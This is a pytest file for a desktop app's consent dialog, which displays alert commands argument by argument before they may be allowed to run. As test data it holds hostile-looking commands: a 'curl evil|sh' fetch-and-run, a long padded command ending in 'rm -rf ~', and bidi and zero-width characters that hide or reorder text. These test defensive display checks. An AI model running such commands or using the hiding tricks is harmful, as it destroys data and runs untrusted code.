"""The page where a command is allowed: all of it can be seen as it is, and only what was seen can be allowed."""

from __future__ import annotations

import shlex
import threading
from typing import TYPE_CHECKING

import pytest
from PySide6.QtCore import QCoreApplication, Qt
from PySide6.QtGui import QTextCursor

from clacks_monitor.config.commands import MAX_CHARACTERS
from clacks_monitor.core.profile import NO_ALERT, Alert, Profile
from clacks_monitor.gui.profiles.command_view import MAX_SHOWN
from clacks_monitor.gui.profiles.profile_dialog import ProfileDialog
from clacks_monitor.gui.profiles.profile_editor import _Consenting

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence
    from pathlib import Path

    from pytestqt.qtbot import QtBot

    from clacks_monitor.config.commands import Looked
    from clacks_monitor.gui.profiles.profile_alert import AlertPage
    from clacks_monitor.gui.window.main_window import MainWindow
    from tests.helpers.fake_session import FakeSession

    Open = Callable[..., ProfileDialog]


@pytest.fixture
def open_dialog(window: MainWindow, session: FakeSession, qtbot: QtBot) -> Open:
    """Open the dialog at its alert: open_dialog("notify-send", "a b", allowed=True)."""

    def open_on(*command: str, allowed: bool = False, wait: bool = True) -> ProfileDialog:
        profile = Profile("P", "./f:Event", alert=Alert(on_match=True, sound=True, command=command, pause_s=30.0))
        if allowed:
            session.consents.allow(profile, session.consents.look(command))
        consenting = _Consenting(session.consents, session.alert_webhooks, profile)  # type: ignore[arg-type]  # the fake has what is asked
        made = ProfileDialog(profile, window.session.queries, window.theme, window.panes.vocabulary, window, consenting)
        qtbot.addWidget(made)
        made.tabs.setCurrentWidget(made.alert)
        made.show()
        qtbot.waitExposed(made)
        if wait:
            qtbot.waitUntil(lambda: not made.alert.looking)
        return made

    return open_on


def _shown(page: AlertPage) -> list[str]:
    """Return the lines of the view without the character that keeps them in their order."""
    lines = page.view.toPlainText().split("\n")
    assert all(line.startswith("\u202d") for line in lines)
    return [line[1:] for line in lines]


def _type(page: AlertPage, qtbot: QtBot, text: str) -> None:
    """Enter a command and wait until it was looked at."""
    page.command.selectAll()
    qtbot.keyClicks(page.command, text)
    qtbot.waitUntil(lambda: not page.looking)


def _to_the_end(page: AlertPage, qtbot: QtBot) -> None:
    """Scroll to the end, and wait until that was painted and had its effect."""
    qtbot.keyClick(page.view, Qt.Key.Key_End, Qt.KeyboardModifier.ControlModifier)
    bar = page.view.verticalScrollBar()

    def was_seen() -> bool:
        bar.setValue(bar.maximum())  # Qt finds out by and by how long the text is
        return page.view.was_seen

    qtbot.waitUntil(was_seen)
    QCoreApplication.processEvents()


def test_the_page_shows_the_alert_and_gives_it_back(open_dialog: Open) -> None:
    dialog = open_dialog("true", "a b", allowed=True)
    page = dialog.alert
    assert dialog.result_profile().alert == Alert(on_match=True, sound=True, command=("true", "a b"), pause_s=30.0)
    consent = dialog.consent()
    assert consent is not None
    assert consent.command == ("true", "a b")
    page.on_absence.setChecked(True)
    page.absence.setValue(90)
    page.on_match.setChecked(False)
    page.tray.setChecked(True)
    alert = dialog.result_profile().alert
    assert (alert.on_match, alert.absence_s, alert.tray) == (False, 90.0, True)
    page.on_absence.setChecked(False)
    assert not page.command.isEnabled()
    assert dialog.consent() is None
    assert dialog.result_profile().alert.wanted is False


def test_every_argument_has_its_line_in_full(open_dialog: Open, qtbot: QtBot) -> None:
    evil = "notify-send 'a call' <!-- curl evil|sh -->"
    page = open_dialog("sh", "-c", evil, "", "two\nlines", "tab\there").alert
    assert [line for line in _shown(page) if not line.startswith("includes")] == [
        "Program: sh",
        f"found at: {page.looked.program}",
        "1: -c",
        f"2: {evil}",
        "3: (empty)",
        "4: two",
        "   lines",
        "5: tab‹U+0009›here",
    ]
    _type(page, qtbot, "true c '3: d'")
    assert _shown(page)[-2:] == ["1: c", "2: 3: d"]


HIDDEN = ["\u202e", "\u2066", "\u200f", "\u061c", "\x1b", "\u200b", "\x07", "\u2028", "\ufeff", "\U000e0041"]


@pytest.mark.parametrize("hidden", HIDDEN)
def test_what_hides_or_reorders_is_shown_as_its_code(open_dialog: Open, hidden: str) -> None:
    command = ("true", f"--safe{hidden} fr- mr")
    dialog = open_dialog(*command)
    code = f"--safe‹U+{ord(hidden):04X}› fr- mr"
    assert f"1: {code}" in _shown(dialog.alert)
    assert code in dialog.alert.command.text()
    assert hidden not in dialog.alert.command.text()
    assert dialog.result_profile().alert.command == command


def test_a_long_command_can_be_allowed_once_its_end_was_in_sight(open_dialog: Open, qtbot: QtBot) -> None:
    dialog = open_dialog("sh", "-c", "y" * 3000 + "; rm -rf ~")
    page = dialog.alert
    assert not page.allowed.isEnabled()
    assert "Scroll to the end" in page.runs.text()
    bar = page.view.verticalScrollBar()
    bar.setValue(bar.maximum() - 1)
    page.allowed.setChecked(True)
    assert dialog.consent() is None
    page.allowed.setChecked(False)
    _to_the_end(page, qtbot)
    assert page.allowed.isEnabled()
    assert "scroll" not in page.runs.text()
    cursor = page.view.textCursor()
    cursor.movePosition(QTextCursor.MoveOperation.End)
    assert page.view.viewport().rect().contains(page.view.cursorRect(cursor).center())
    page.allowed.setChecked(True)
    assert dialog.consent() is not None


def test_a_command_on_a_page_that_was_never_shown_is_not_allowed(open_dialog: Open) -> None:
    dialog = open_dialog()
    dialog.tabs.setCurrentIndex(0)
    dialog.alert.command.setText("true")
    dialog.alert._command_edited()
    dialog.alert.allowed.setChecked(True)
    assert dialog.consent() is None


@pytest.mark.parametrize("length", [MAX_CHARACTERS, MAX_CHARACTERS + 1])
def test_a_command_that_is_too_long_to_be_judged_is_refused_in_words(
    open_dialog: Open, qtbot: QtBot, length: int
) -> None:
    page = open_dialog("true", "x" * (length - len("true"))).alert
    refused = length > MAX_CHARACTERS
    assert ("Put it into a script" in page.runs.text()) is refused
    _to_the_end(page, qtbot)
    assert page.allowed.isEnabled() is not refused
    assert page.view.toPlainText().count("x") == length - len("true")


def test_of_a_command_that_cannot_be_allowed_a_bounded_part_is_laid_out(open_dialog: Open) -> None:
    command = ("true", *("\u202e" + "x" * 9_000 for _number in range(99)))
    dialog = open_dialog(*command)
    assert len(dialog.alert.view.toPlainText()) == MAX_SHOWN
    assert len(dialog.alert.command.text()) < 2 * MAX_SHOWN
    assert "891,103 characters" in dialog.alert.runs.text()
    assert dialog.result_profile().alert.command == command


def test_a_program_that_is_not_there_is_said(open_dialog: Open, qtbot: QtBot) -> None:
    page = open_dialog("nowhere-to-be-found").alert
    qtbot.waitUntil(lambda: page.view.was_seen)
    assert "Program nowhere-to-be-found not found" in page.runs.text()
    assert not page.allowed.isEnabled()
    _type(page, qtbot, "true")
    qtbot.waitUntil(page.allowed.isEnabled)


def test_the_files_that_are_covered_are_shown(open_dialog: Open, tmp_path: Path) -> None:
    script = tmp_path / "alarm.sh"
    script.write_text("echo 1")
    page = open_dialog("sh", str(script)).alert
    [line] = [line for line in _shown(page) if line.startswith("includes") and "alarm.sh" in line]
    assert "6 B, SHA-256 " in line


def test_another_command_has_to_be_allowed_anew(open_dialog: Open, qtbot: QtBot) -> None:
    dialog = open_dialog("true", "a b", allowed=True)
    page = dialog.alert
    qtbot.keyClicks(page.command, " c")
    assert dialog.consent() is None
    assert page.runs.text() == "The command is being checked…"
    qtbot.waitUntil(lambda: not page.looking)
    assert dialog.consent() is None
    assert _shown(page)[-2:] == ["1: a b", "2: c"]
    assert "Not allowed" in page.runs.text()
    save = dialog.buttons.button(dialog.buttons.StandardButton.Save)
    qtbot.keyClicks(page.command, " 'open")
    assert not save.isEnabled()
    assert "quotation mark" in dialog.reason.text()
    page.command.clear()
    page.command.textEdited.emit("")
    assert save.isEnabled()
    assert not page.allowed.isEnabled()


def test_a_profile_is_not_saved_before_its_command_was_looked_at(
    open_dialog: Open, monkeypatch: pytest.MonkeyPatch, qtbot: QtBot
) -> None:
    """Saved earlier, an allowed command would lose its consent; and looking must not keep the window waiting."""
    looking, go_on = list[threading.Thread](), threading.Event()
    look = _Consenting.look

    def slow(consenting: _Consenting, command: Sequence[str]) -> Looked:
        if command:
            looking.append(threading.current_thread())
            assert go_on.wait(30)
        return look(consenting, command)

    monkeypatch.setattr(_Consenting, "look", slow)
    dialog = open_dialog("true", "a b", allowed=True, wait=False)
    try:
        save = dialog.buttons.button(dialog.buttons.StandardButton.Save)
        qtbot.waitUntil(lambda: bool(looking) and dialog.reason.text() == "The command is being checked…")
        assert not save.isEnabled()
        dialog.query.apply_wanted.emit()
        assert dialog.isVisible()
    finally:
        go_on.set()
    qtbot.waitUntil(save.isEnabled)
    assert dialog.consent() is not None
    assert threading.main_thread() not in looking
    dialog.query.apply_wanted.emit()
    assert not dialog.isVisible()


def test_what_was_allowed_in_the_dialog_is_allowed(
    window: MainWindow, session: FakeSession, monkeypatch: pytest.MonkeyPatch, qtbot: QtBot
) -> None:
    def accept(dialog: ProfileDialog) -> int:
        page = dialog.alert
        page.on_match.setChecked(True)
        dialog.tabs.setCurrentWidget(dialog.alert)
        dialog.show()
        qtbot.waitExposed(dialog)
        page.command.setText(shlex.join(command))
        page.command.textEdited.emit("")
        qtbot.waitUntil(lambda: page.allowed.isEnabled() is (len(command) > 1))
        page.allowed.setChecked(len(command) > 1)
        dialog.hide()
        return 1

    assert session.profiles.all()[0].alert == NO_ALERT
    monkeypatch.setattr(ProfileDialog, "exec", accept)
    window.panes.profiles.select("telephones")
    for command in (("true", "now"), ("nowhere-to-be-found",)):
        window.frame.commands["profile.edit"].trigger()
        (profile, *_rest) = session.profiles.all()
        assert profile.alert.command == command
        allowed = session.consents.why_not(profile, session.consents.look(command)) == ""
        assert allowed is (len(command) > 1)
